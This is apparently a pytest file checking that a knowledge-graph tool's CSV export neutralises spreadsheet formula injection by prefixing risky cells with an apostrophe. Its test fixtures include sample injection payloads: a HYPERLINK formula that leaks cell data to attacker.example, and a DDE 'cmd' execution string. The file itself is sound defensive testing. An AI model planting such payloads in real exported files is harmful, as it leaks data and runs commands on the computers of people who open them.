"""Exports cannot attack their reader (issue 18): no spreadsheet formula in ``kg export``'s CSV."""

from __future__ import annotations

import csv

import pytest
from click.testing import CliRunner

from kg.cli import main
from kg.export.tables import spreadsheet_safe
from kg.models import Actor, ActorMention, Article, Extraction, Mention, Relation
from kg.rdf.namespace import actor_id
from kg.rdf.store import KGStore

HOSTILE = [
    '=HYPERLINK("http://attacker.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    "\tTabbed",
    "\rReturned",
]
SAFE = ["Iran", "-2.5"]


def _mention(label: str) -> Mention:
    return Mention(label, "Organization", actor_id(label), label, 0, len(label))


def _extraction() -> Extraction:
    article = Article(id="hostile", text=" ".join(HOSTILE + SAFE) + ".", title="Hostile")
    labels = HOSTILE + SAFE
    relations = tuple(
        Relation(
            doc=article.id, subject=_mention(labels[i]), predicate="attacked",
            object=_mention(labels[i + 1]), sentence=article.text, rule="test",
            negated=False, modality="asserted", source=None, event_date=None,
            confidence=0.75, sentence_start=0, sentence_end=len(article.text),
            trigger="attacked",
        )
        for i in range(len(labels) - 1)
    )
    actors = tuple(
        ActorMention(Actor(actor_id(label), label, "Organization", (), None, None))
        for label in labels
    )
    return Extraction(article, relations, actors)


def test_export_csv_cells_never_start_a_formula(tmp_path):
    store = tmp_path / "kg.store"
    with KGStore(store) as kg:
        kg.add_extractions([_extraction()])
    out = tmp_path / "tables"
    result = CliRunner().invoke(
        main, ["export", "--format", "csv", "-o", str(out), "--store", str(store)]
    )
    assert result.exit_code == 0, result.output
    cells = []
    for name in ("nodes.csv", "edges.csv"):
        with (out / name).open(newline="", encoding="utf-8") as handle:
            cells += [cell for row in csv.reader(handle) for cell in row]
    dangerous = [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
    dangerous += [c for c in cells if c.startswith("-") and not _number(c)]
    assert dangerous == []
    for label in HOSTILE[:-1]:  # (a leading CR is dropped from labels before the export)
        assert "'" + label in cells, label  # written, with the leading apostrophe
    assert "Iran" in cells
    numbers = [c for c in cells if c.startswith("-") and _number(c)]
    assert all(not c.startswith("'") for c in numbers)


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize(
    "cell, written",
    [
        ("-2.5", "-2.5"),
        ("+3", "+3"),
        ("-1e5", "-1e5"),
        ("-.5", "-.5"),
        ("-inf", "'-inf"),  # float() takes these; a spreadsheet does not read them as numbers
        ("-nan", "'-nan"),
        ("-1_000", "'-1_000"),
        ("-2 ", "'-2 "),
        ("=1+1", "'=1+1"),
    ],
)
def test_export_csv_only_plain_numbers_keep_a_leading_sign(cell, written):
    assert spreadsheet_safe(cell) == written
